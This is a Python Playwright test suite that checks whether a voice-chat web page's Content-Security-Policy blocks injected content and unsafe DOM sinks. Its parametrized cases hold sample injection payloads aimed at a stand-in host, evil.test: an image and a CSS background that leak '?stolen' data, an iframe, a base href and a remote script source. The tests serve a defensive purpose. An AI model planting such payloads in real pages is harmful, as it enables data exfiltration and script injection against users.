"""The page under the headers that it asks its host for: all of it works, and nothing else may."""

from __future__ import annotations

import urllib.request
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page, expect

from tests.browser.conftest import Hear, Open, opening
from tests.browser.page import held, page_of, times_of, type_message, until_heard
from tests.e2e.stack import ROOT, Stack

pytestmark = pytest.mark.timeout(120)

# Playwright's own evaluate() is no script of the page, so the policy does not bind it.
WATCH = """
    window.violations = [];
    document.addEventListener("securitypolicyviolation", (event) =>
        window.violations.push(`${event.effectiveDirective}: ${event.blockedURI} ${event.sample}`));
"""


def violations(page: Page) -> list[str]:
    return list(page.evaluate("window.violations"))


@pytest.fixture(scope="module")
def strict_page(shared_stack: Stack, browser: Browser) -> Iterator[Page]:
    """The page, with its policy in force: what is refused leaves no trace in it."""
    with opening() as open_page:
        yield open_page(browser, page_of(shared_stack), script=WATCH, bypass_csp=False)


def test_everything_that_the_page_does_is_within_its_policy(
    stack: Stack, opened: Open, browser: Browser, hear: Hear, speech: Callable[[str], bytes]
) -> None:
    complaints: list[str] = []
    question = bytes(16_000) + speech("What time is it?")
    hear(question + bytes(3 * 32_000), 16_000)
    page = opened(browser, page_of(stack), script=WATCH, bypass_csp=False)
    page.on(
        "console",
        lambda said: complaints.append(said.text) if said.type == "error" else None,
    )
    with held(page):
        until_heard(page, len(question) / 32_000)
    expect(page.locator(".numbers")).to_contain_text("first sound", timeout=30_000)
    type_message(page, "My name is Alice.")
    expect(times_of(page, 1)).to_contain_text("total", timeout=30_000)
    expect(times_of(page, 1).locator(".bar i")).not_to_have_count(0)
    page.click("#hands-free")
    expect(page.locator("#hands-free")).to_have_attribute("aria-pressed", "true")
    page.click("#panel-toggle")
    for button in ("#save-events", "#save-transcript"):
        page.get_by_role("tab", name="Events" if "events" in button else "Settings").click()
        with page.expect_download() as download:
            page.click(button)
        assert Path(download.value.path()).stat().st_size > 100
    assert violations(page) == []
    page.reload()
    page.wait_for_selector("#state[data-state=ready]", timeout=15_000)
    assert violations(page) == []
    assert complaints == []


@pytest.mark.parametrize(
    ("element", "attribute", "value", "directive"),
    [
        ("img", "src", "https://evil.test/?stolen", "img-src"),
        ("iframe", "src", "https://evil.test/", "frame-src"),
        ("p", "style", "background: url(https://evil.test/?stolen)", "style-src-attr"),
        ("base", "href", "https://evil.test/", "base-uri"),
    ],
)
def test_an_element_that_got_into_the_page_reaches_nobody(
    strict_page: Page, element: str, attribute: str, value: str, directive: str
) -> None:
    before = len(violations(strict_page))
    strict_page.evaluate(
        """async ([name, attribute, value]) => {
            const seen = new Promise((done) =>
                document.addEventListener("securitypolicyviolation", done, { once: true }));
            const element = document.createElement(name);
            element.setAttribute(attribute, value);
            document.body.append(element);
            await seen;
            element.remove();
        }""",
        [element, attribute, value],
    )
    assert violations(strict_page)[before].startswith(directive)


@pytest.mark.parametrize(
    "sink",
    [
        "document.body.innerHTML = '<b>said</b>'",
        "document.body.insertAdjacentHTML('beforeend', '<b>said</b>')",
        "document.write('<b>said</b>')",
        "document.createElement('script').src = 'https://evil.test/x.js'",
        "document.createElement('script').text = 'window.ran = true'",
        "document.body.setAttribute('onclick', 'window.ran = true')",
    ],
)
def test_text_never_becomes_markup_by_a_mistake(strict_page: Page, sink: str) -> None:
    refused = strict_page.evaluate(
        f"() => {{ try {{ {sink}; return 'taken'; }} catch (error) {{ return error.name; }} }}"
    )
    assert refused == "TypeError"


def test_the_page_and_the_client_come_with_the_headers_that_the_folder_asks_for(
    stack: Stack,
) -> None:
    asked = dict(
        line.strip().split(": ", 1)
        for line in (ROOT / "web" / "_headers").read_text().splitlines()
        if line.startswith("  ")
    )
    assert "Content-Security-Policy" in asked
    for path in ("", "main.js", "client/index.js", "client/player-worklet.js"):
        with urllib.request.urlopen(stack.info["static_url"] + path, timeout=10) as answer:
            assert {name: answer.headers[name] for name in asked} == asked
